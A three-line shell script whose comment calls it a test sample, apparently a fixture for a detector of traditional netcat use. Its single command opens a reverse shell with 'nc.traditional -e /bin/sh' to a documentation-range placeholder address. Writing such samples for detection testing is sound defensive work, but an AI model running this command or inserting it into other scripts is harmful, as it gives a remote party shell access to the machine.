#!/bin/sh
# test sample: traditional netcat with -e
nc.traditional 192.0.2.10 4444 -e /bin/sh
